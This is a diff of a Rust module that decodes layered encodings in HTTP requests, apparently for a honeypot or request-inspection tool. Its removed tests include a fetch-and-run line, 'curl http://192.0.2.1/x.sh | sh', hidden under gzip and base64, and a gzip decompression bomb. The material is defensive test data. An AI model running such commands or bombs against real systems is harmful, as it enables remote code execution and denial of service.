@@ -1,311 +1,278 @@
-//! What is hidden in a request by an encoding: found, and undone.
+//! Tries each decoder on each part of a request, and on what comes of it.
 //!
-//! In: the parts of a request. Out: [`Decoded`] bytes, with where they were and how they were wrapped.
-//! Undoes URL encoding, base64, chunks, gzip and zlib, one inside the other, four deep. Runs
-//! nothing, fetches nothing, and stops where all parts together reach 256 KiB.
+//! In: the bytes of a request. Out: [`Part`]s, each once, with the steps that led to them. What is compressed, or
+//! in UTF-16, is no part itself where it could be opened: what is in it is. Stops six steps deep, at 32 parts, and
+//! where all parts together or the work for them reach their limits.
 
-use std::collections::HashSet;
+use std::borrow::Cow;
+use std::ops::Range;
 
-use forever200_head::{BodyLength, Head, chunks, extent, unfolded};
+use forever200_head::{BodyLength, Field, Head, chunks, extent, unfolded};
 
-use crate::inflate::inflate;
-use crate::{base64, escape};
+use crate::coding::{self, Opened};
+use crate::kind::Kind;
+use crate::part::{Part, Step, URL_DECODED, Way};
+use crate::work::{Limits, Work};
+use crate::{entity, hex, literal, multipart, quoted, run, url, utf16};
 
 /// Wrappings undone one inside the other.
-pub const MAX_DEPTH: usize = 4;
-/// Most that all parts together may become. What a request may hold decompresses to a thousand times that,
-/// and every byte is one to lay out and to show, at each look at the page.
-pub const MAX_DECODED_BYTES: usize = 256 * 1024;
+pub const MAX_DEPTH: usize = 6;
 /// Most parts that one request is taken apart into.
-const MAX_PARTS: usize = 32;
-/// Shorter runs of base64 characters are words.
-const MIN_BASE64_CHARS: usize = 12;
-/// Longest name of a part, in characters.
-const MAX_NAME_CHARS: usize = 60;
+pub const MAX_PARTS: usize = 32;
+/// Most headers that are looked at: servers refuse more than 100 (Apache) to 2,000 (Node).
+const MAX_HEADERS: usize = 512;
+/// What is looked at of one part of a request.
+const MAX_SOURCE_BYTES: usize = 256 * 1024;
+/// What looking at text counts for, for each byte: it is read once for each kind of encoding.
+const TEXT_WORK: usize = 4;
+/// What a decoder of a coding counts for that is begun: its tables and its window.
+const OPEN_WORK: usize = 2_000;
+/// Of so many bytes, one may be a control character in what escapes are looked for in.
+const LETTERS: usize = 16;
 
-/// Bytes that were wrapped.
-#[derive(Clone, Debug, PartialEq, Eq)]
-pub struct Decoded {
-    /// Where they were, and how they were wrapped, the outermost first: printable text.
-    pub what: String,
-    /// The bytes.
-    pub bytes: Vec<u8>,
-}
+/// A decoder of all of a text; `None` where there is nothing to decode.
+type Decoder = fn(&[u8]) -> Option<Vec<u8>>;
+
+/// The first that finds something decodes; what comes of it is tried again.
+const DECODERS: [(&str, Decoder); 4] = [
+    (URL_DECODED, url::undo),
+    ("HTML entities decoded", entity::undo),
+    ("escapes decoded", literal::undo),
+    ("quoted-printable decoded", quoted::undo),
+];
 
 /// Finds what is wrapped in a request; for other protocols than HTTP, in all of its bytes.
 #[must_use]
-pub fn decode(raw: &[u8], is_http: bool) -> Vec<Decoded> {
+pub fn decode(raw: &[u8], is_http: bool, limits: Limits) -> Vec<Part> {
     let mut finder = Finder {
-        found: Vec::new(),
-        seen: HashSet::new(),
-        left: MAX_DECODED_BYTES,
+        parts: Vec::new(),
+        opened: Vec::new(),
+        left: limits.bytes,
+        work: Work::new(limits.work),
     };
     let Some(head) = Head::parse(raw).filter(|_| is_http) else {
-        finder.unwrap("bytes", raw, MAX_DEPTH);
-        return finder.found;
+        finder.source(&Way::new(Step::new("bytes", b""), 0..raw.len()), raw);
+        return finder.parts;
     };
-    finder.unwrap("target", head.slice(&head.line.target), MAX_DEPTH);
-    for field in head.fields() {
-        let name = line(head.slice(&field.name), MAX_NAME_CHARS);
-        finder.unwrap(&name, &unfolded(head.slice(&field.value)), MAX_DEPTH);
-    }
     let lies = extent(raw);
-    let body = &raw[lies.body];
-    finder.unwrap("body", body, MAX_DEPTH);
-    finder.unwrap("behind the request", &raw[lies.extra], MAX_DEPTH);
-    if BodyLength::of(&head) == BodyLength::Chunked
-        && let Some(body) = unchunk(body)
-    {
-        finder.keep("body, chunks joined".to_owned(), body, MAX_DEPTH);
+    let target = head.line.target.clone();
+    let way = Way::new(Step::new("target", b""), target.clone());
+    finder.source(&way, head.slice(&target));
+    for field in head.fields().take(MAX_HEADERS) {
+        finder.header(&head, &field);
     }
-    finder.found
-}
-
-/// Returns bytes as one line of printable ASCII of at most `max_chars` characters; `…` stands for the rest.
-fn line(bytes: &[u8], max_chars: usize) -> String {
-    let shown = &bytes[..bytes.len().min(max_chars)];
-    let mut line = shown.escape_ascii().to_string();
-    if line.len() > max_chars || shown.len() < bytes.len() {
-        line.truncate(max_chars.saturating_sub(1));
-        line.push('…');
-    }
-    line
-}
-
-/// Returns the names and values of a query or form, decoded, in the order sent.
-#[must_use]
-pub fn parameters(encoded: &[u8]) -> Vec<(Vec<u8>, Vec<u8>)> {
-    let pairs = encoded
-        .split(|&byte| byte == b'&')
-        .filter(|pair| !pair.is_empty());
-    pairs
-        .map(|pair| match pair.iter().position(|&byte| byte == b'=') {
-            Some(equals) => (plain(&pair[..equals]), plain(&pair[equals + 1..])),
-            None => (plain(pair), Vec::new()),
-        })
-        .collect()
-}
-
-/// Undoes the encoding of a form.
-fn plain(part: &[u8]) -> Vec<u8> {
-    let mut plain = Vec::with_capacity(part.len());
-    escape::undo(part, escape::form, |byte, _| plain.push(byte));
-    plain
+    finder.body(&head, raw, lies.body);
+    let way = Way::new(Step::new("behind the request", b""), lies.extra.clone());
+    finder.source(&way, &raw[lies.extra]);
+    finder.parts
 }
 
 struct Finder {
-    found: Vec<Decoded>,
-    seen: HashSet<Vec<u8>>,
+    parts: Vec<Part>,
+    /// What is no part because it could be opened.
+    opened: Vec<Vec<u8>>,
     /// Bytes that there is still room for.
     left: usize,
+    work: Work,
 }
 
 impl Finder {
-    /// Tries every wrapping on `bytes`.
-    fn unwrap(&mut self, what: &str, bytes: &[u8], depth: usize) {
-        if depth == 0 || bytes.is_empty() {
+    fn header(&mut self, head: &Head<'_>, field: &Field) {
+        let name = head.slice(&field.name);
+        let mut way = Way::new(Step::new("", name), field.value.clone());
+        let value = unfolded(head.slice(&field.value));
+        way.is_as_sent = matches!(value, Cow::Borrowed(_));
+        let has_login = name.eq_ignore_ascii_case(b"authorization")
+            || name.eq_ignore_ascii_case(b"proxy-authorization");
+        if let Some(run) = basic(&value).filter(|_| has_login)
+            && let Some(login) = run::credentials(&value[run.clone()])
+        {
+            let step = Step::of_run("base64", &value[run.clone()]);
+            return self.keep(way.to(run, step), login, MAX_DEPTH - 1);
+        }
+        self.source(&way, &value);
+    }
+
+    /// Joins chunks, and undoes the codings that the head names, the last one first.
+    fn body(&mut self, head: &Head<'_>, raw: &[u8], range: Range<usize>) {
+        let sent = &raw[range.clone()];
+        let mut way = Way::new(Step::new("body", b""), range);
+        way.is_body = true;
+        let mut bytes = Cow::Borrowed(sent);
+        if BodyLength::of(head) == BodyLength::Chunked
+            && let Some(joined) = unchunk(sent)
+        {
+            way = way.inside("chunks joined");
+            bytes = Cow::Owned(joined);
+        }
+        for name in codings(head) {
+            let Some(opened) = self.open(&bytes, Some(&name)) else {
+                break;
+            };
+            way = way.inside(opened.how);
+            bytes = Cow::Owned(opened.bytes);
+        }
+        match bytes {
+            Cow::Borrowed(sent) => self.source(&way, sent),
+            Cow::Owned(bytes) => self.keep(way, bytes, MAX_DEPTH),
+        }
+    }
+
+    /// Looks at a part of the request as it came.
+    fn source(&mut self, way: &Way, bytes: &[u8]) {
+        let bytes = &bytes[..bytes.len().min(MAX_SOURCE_BYTES)];
+        match self.open(bytes, None) {
+            Some(opened) => self.keep(way.inside(opened.how), opened.bytes, MAX_DEPTH - 1),
+            None => self.text(way, bytes, MAX_DEPTH),
+        }
+    }
+
+    /// Keeps bytes as a part, or what is in them, and looks at it.
+    fn keep(&mut self, way: Way, mut bytes: Vec<u8>, depth: usize) {
+        bytes.truncate(self.left);
+        let is_full = self.parts.len() + self.opened.len() >= MAX_PARTS;
+        if bytes.is_empty() || is_full || self.has(&bytes) {
             return;
         }
-        if let Some(inner) = url_decoded(bytes) {
-            self.keep(format!("{what}, URL-decoded"), inner, depth);
-        } else if let Some(inner) = inflate(bytes, self.left) {
-            self.keep(format!("{what}, {}", inner.how), inner.bytes, depth);
-        } else {
-            for run in base64_runs(bytes) {
-                if let Some(inner) = base64_decoded(run) {
-                    let run = line(run, MAX_NAME_CHARS / 3);
-                    self.keep(format!("{what}, base64 {run}"), inner, depth);
+        self.left -= bytes.len();
+        if depth > 0
+            && let Some(opened) = self.open(&bytes, None)
+        {
+            self.opened.push(bytes);
+            return self.keep(way.inside(opened.how), opened.bytes, depth - 1);
+        }
+        self.parts.push(Part {
+            steps: way.steps.clone(),
+            bytes: bytes.clone(),
+            place: way.place.clone(),
+            is_body: way.is_body,
+        });
+        self.text(&way, &bytes, depth);
+    }
+
+    fn has(&self, bytes: &[u8]) -> bool {
+        self.parts.iter().any(|part| part.bytes == bytes)
+            || self.opened.iter().any(|opened| opened == bytes)
+    }
+
+    /// Opens what is compressed or in UTF-16.
+    fn open(&mut self, bytes: &[u8], name: Option<&[u8]>) -> Option<Opened> {
+        if self.left == 0 || !self.work.take(bytes.len() / TEXT_WORK) {
+            return None;
+        }
+        if let Some(bytes) = utf16::undo(bytes) {
+            let how = "UTF-16 read";
+            return Some(Opened { how, bytes });
+        }
+        if name.is_none() && !coding::may_begin(bytes) || !self.work.take(OPEN_WORK) {
+            return None;
+        }
+        let opened = match name {
+            Some(name) => coding::by_name(name, bytes, self.left),
+            None => coding::by_magic(bytes, self.left),
+        };
+        opened.filter(|opened| self.work.take(opened.bytes.len()))
+    }
+
+    /// Looks for encodings of all of a text, and if there is none, for runs.
+    fn text(&mut self, way: &Way, bytes: &[u8], depth: usize) {
+        if depth == 0 || bytes.is_empty() || !self.work.take(TEXT_WORK * bytes.len()) {
+            return;
+        }
+        if Kind::is_multipart(bytes) {
+            return self.fields(way, bytes, depth);
+        }
+        if is_of_letters(bytes) {
+            for (name, decoder) in DECODERS {
+                if let Some(plain) = decoder(bytes) {
+                    let way = way.to(0..bytes.len(), Step::new(name, b""));
+                    return self.keep(way, plain, depth - 1);
                 }
             }
         }
+        for (run, text) in hex::runs(bytes).take(MAX_PARTS) {
+            let step = Step::of_run("hex", &bytes[run.clone()]);
+            self.keep(way.to(run, step), text, depth - 1);
+        }
+        let mut found = Vec::new();
+        run::runs(bytes, &mut self.work, |place, run, inner| {
+            if found.len() < MAX_PARTS {
+                found.push((place, Step::of_run("base64", run), inner));
+            }
+        });
+        for (place, step, inner) in found {
+            self.keep(way.to(place, step), inner, depth - 1);
+        }
     }
 
-    fn keep(&mut self, what: String, mut bytes: Vec<u8>, depth: usize) {
-        bytes.truncate(self.left);
-        if !bytes.is_empty() && self.found.len() < MAX_PARTS && self.seen.insert(bytes.clone()) {
-            self.left -= bytes.len();
-            self.found.push(Decoded {
-                what: what.clone(),
-                bytes: bytes.clone(),
-            });
-            self.unwrap(&what, &bytes, depth - 1);
+    /// Looks at the parts of a multipart body, which are shown in a table of their own.
+    fn fields(&mut self, way: &Way, bytes: &[u8], depth: usize) {
+        for field in multipart::fields(bytes).iter().take(MAX_PARTS) {
+            let name = field.file_name.unwrap_or(field.name);
+            let start = offset(bytes, field.value);
+            let range = start..start + field.value.len();
+            let mut inner = way.to(range.clone(), Step::new("part", name));
+            inner.is_as_sent = way.is_as_sent;
+            let decoded = match &*field.encoding.to_ascii_lowercase() {
+                b"quoted-printable" => quoted::plain(field.value).map(|it| (DECODERS[3].0, it)),
+                _ => self.open(field.value, None).map(|it| (it.how, it.bytes)),
+            };
+            match decoded {
+                Some((how, bytes)) => self.keep(inner.inside(how), bytes, depth - 1),
+                None => self.text(&inner, field.value, depth - 1),
+            }
         }
     }
 }
 
-fn url_decoded(bytes: &[u8]) -> Option<Vec<u8>> {
-    let mut decoded = Vec::with_capacity(bytes.len());
-    escape::undo(bytes, escape::percent, |byte, _| decoded.push(byte)).then_some(decoded)
+/// Where the characters behind `Basic` are.
+fn basic(value: &[u8]) -> Option<Range<usize>> {
+    let scheme = value
+        .get(..6)
+        .filter(|it| it.eq_ignore_ascii_case(b"basic "))?;
+    let rest = value[scheme.len()..].trim_ascii();
+    let start = offset(value, rest);
+    (!rest.is_empty()).then_some(start..start + rest.len())
 }
 
-/// Finds runs of characters that base64 may be made of. `-` and `_` are those of its URL form.
-fn base64_runs(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
-    let is_base64 = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/-_=".contains(byte);
-    bytes.split(move |byte| !is_base64(byte)).map(|run| {
-        match run.iter().rposition(|&byte| byte != b'=') {
-            // `cmd=aGk=`: the first `=` is none of base64's.
-            Some(last) => match run[..last].iter().rposition(|&byte| byte == b'=') {
-                Some(equals) => &run[equals + 1..],
-                None => run,
-            },
-            None => &run[..0],
+/// Where a slice of some bytes begins in them.
+fn offset(bytes: &[u8], part: &[u8]) -> usize {
+    (part.as_ptr() as usize)
+        .saturating_sub(bytes.as_ptr() as usize)
+        .min(bytes.len())
+}
+
+/// The codings of a body, the last one first: RFC 9110, 8.4, and RFC 9112, 6.1.
+fn codings(head: &Head<'_>) -> Vec<Vec<u8>> {
+    let mut all = Vec::new();
+    for name in [&b"content-encoding"[..], b"transfer-encoding"] {
+        for field in head.fields_named(name) {
+            let value = unfolded(head.slice(&field.value));
+            let names = value.split(|&byte| byte == b',').map(<[u8]>::trim_ascii);
+            let names =
+                names.filter(|name| !name.is_empty() && !name.eq_ignore_ascii_case(b"chunked"));
+            all.extend(names.take(MAX_DEPTH).map(<[u8]>::to_vec));
+            all.truncate(MAX_DEPTH);
         }
-    })
-}
-
-/// Decodes base64 where the result is text or compressed: most words are base64 by their letters.
-fn base64_decoded(run: &[u8]) -> Option<Vec<u8>> {
-    let decoded = Some(run)
-        .filter(|run| run.len() >= MIN_BASE64_CHARS)
-        .and_then(base64::decode)?;
-    let is_text = std::str::from_utf8(&decoded).is_ok_and(|text| {
-        text.chars()
-            .all(|char| !char.is_control() || matches!(char, '\n' | '\r' | '\t'))
-    });
-    (is_text || decoded.starts_with(b"\x1f\x8b\x08") || decoded.starts_with(b"\xac\xed\0\x05"))
-        .then_some(decoded)
+    }
+    all.reverse();
+    all
 }
 
 /// Joins chunks; `None` when not one can be read.
 fn unchunk(body: &[u8]) -> Option<Vec<u8>> {
-    let joined: Vec<u8> = chunks(body)
-        .flat_map(|chunk| &body[chunk])
-        .copied()
-        .collect();
+    let mut joined = Vec::new();
+    for chunk in chunks(body) {
+        joined.extend_from_slice(&body[chunk]);
+    }
     (!joined.is_empty()).then_some(joined)
 }
 
-#[cfg(test)]
-mod tests {
-    use std::io::Write;
-
-    use ::base64::Engine;
-    use ::base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD};
-    use flate2::Compression;
-    use flate2::write::GzEncoder;
-
-    use super::*;
-
-    fn found(raw: &[u8]) -> Vec<(String, String)> {
-        let parts = decode(raw, Head::parse(raw).is_some()).into_iter();
-        parts
-            .map(|part| (part.what, part.bytes.escape_ascii().to_string()))
-            .collect()
-    }
-
-    fn gzip(bytes: &[u8]) -> Vec<u8> {
-        let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
-        encoder.write_all(bytes).unwrap();
-        encoder.finish().unwrap()
-    }
-
-    #[test]
-    fn each_wrapping_is_undone() {
-        let raw =
-            b"GET /?c=%2565cho%20x HTTP/1.1\r\nAuthorization: Basic YWRtaW46cGFzc3dvcmQ=\r\n\r\n";
-        let expected = [
-            ("target, URL-decoded", "/?c=%65cho x"),
-            ("target, URL-decoded, URL-decoded", "/?c=echo x"),
-            (
-                "Authorization, base64 YWRtaW46cGFzc3dvcmQ=",
-                "admin:password",
-            ),
-        ];
-        assert_eq!(
-            found(raw),
-            expected.map(|(what, bytes)| (what.to_owned(), bytes.to_owned()))
-        );
-    }
-
-    #[test]
-    fn one_inside_the_other_is_found() {
-        let inner = BASE64_URL_SAFE_NO_PAD.encode(gzip(b"curl http://192.0.2.1/x.sh | sh"));
-        let raw = format!(
-            "POST / HTTP/1.1\r\n\r\n{{\"cmd\":\"{}\"}}",
-            inner.replace('-', "%2d")
-        );
-        let found = found(raw.as_bytes());
-        let (what, bytes) = found.last().unwrap();
-        assert_eq!(bytes, "curl http://192.0.2.1/x.sh | sh");
-        assert!(
-            what.starts_with("body, ") && what.ends_with(", gunzipped"),
-            "{what}"
-        );
-    }
-
-    #[test]
-    fn chunks_are_joined_as_far_as_they_go() {
-        let head = "POST / HTTP/1.1\r\nTransfer-Encoding: gzip, chunked\r\n\r\n";
-        for (body, joined) in [
-            ("5\r\nhello\r\n6;x=y\r\n world\r\n0\r\n\r\n", "hello world"),
-            ("5\nhello\n6\n wo", "hello wo"),
-            ("ffffffffffffffff\r\nhello", "hello"),
-        ] {
-            let found = found(format!("{head}{body}").as_bytes());
-            assert_eq!(
-                found,
-                [("body, chunks joined".to_owned(), joined.to_owned())]
-            );
-        }
-        for body in ["", "0\r\n\r\n", "-1\r\nx", "zz\r\nhello", "5"] {
-            assert_eq!(found(format!("{head}{body}").as_bytes()), []);
-        }
-    }
-
-    #[test]
-    fn words_are_not_base64() {
-        for raw in [
-            &b"GET /administrator/components/index.php HTTP/1.1\r\nHost: example.com\r\nAccept: application/json\r\n\r\n"[..],
-            b"GET /AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA HTTP/1.1\r\n\r\n",
-            b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; ExampleBot/2.1)\r\n\r\n=====================",
-            b"\x16\x03\x01",
-        ] {
-            assert_eq!(found(raw), []);
-        }
-    }
-
-    #[test]
-    fn what_explodes_is_cut_off() {
-        let bomb = gzip(&vec![b'a'; 50_000_000]);
-        let raw = [b"POST / HTTP/1.1\r\n\r\n", &bomb[..]].concat();
-        let sizes: Vec<_> = decode(&raw, true)
-            .iter()
-            .map(|part| part.bytes.len())
-            .collect();
-        assert_eq!(sizes, [MAX_DECODED_BYTES]);
-        // Small ones that are many: each would fit.
-        let bombs = (0..MAX_PARTS).map(|number| {
-            BASE64_STANDARD.encode(gzip(&[[b'a'; 50_000], [number as u8; 50_000]].concat()))
-        });
-        let raw = format!(
-            "POST / HTTP/1.1\r\n\r\n{}",
-            bombs.collect::<Vec<_>>().join(" ")
-        );
-        let sizes = decode(raw.as_bytes(), true)
-            .into_iter()
-            .map(|part| part.bytes.len());
-        assert_eq!(sizes.sum::<usize>(), MAX_DECODED_BYTES);
-        let many = BASE64_STANDARD.encode("many words here") + " ";
-        let many: String = (0..1000)
-            .map(|number| many.replacen('b', &format!("b{number:04}"), 1))
-            .collect();
-        assert!(found(format!("POST / HTTP/1.1\r\n\r\n{many}").as_bytes()).len() <= MAX_PARTS);
-    }
-
-    #[test]
-    fn parameters_keep_their_order_and_bytes() {
-        let expected: [(&[u8], &[u8]); 5] = [
-            (b"b", b"1 2"),
-            (b"a", b"\xff="),
-            (b"b", b""),
-            (b"", b"x"),
-            (b"%zz", b"%"),
-        ];
-        let found = parameters(b"b=1+2&a=%ff=&&b&=x&%zz=%");
-        let found: Vec<_> = found
-            .iter()
-            .map(|(name, value)| (&name[..], &value[..]))
-            .collect();
-        assert_eq!(found, expected);
-    }
+/// Tells whether bytes are text but for a few: `%41` stands in noise as well.
+fn is_of_letters(bytes: &[u8]) -> bool {
+    let is_control = |byte: &&u8| matches!(byte, 0..=8 | 11 | 12 | 14..=31 | 127);
+    bytes.iter().filter(is_control).count() * LETTERS <= bytes.len()
 }
+
+#[cfg(test)]
+mod tests;
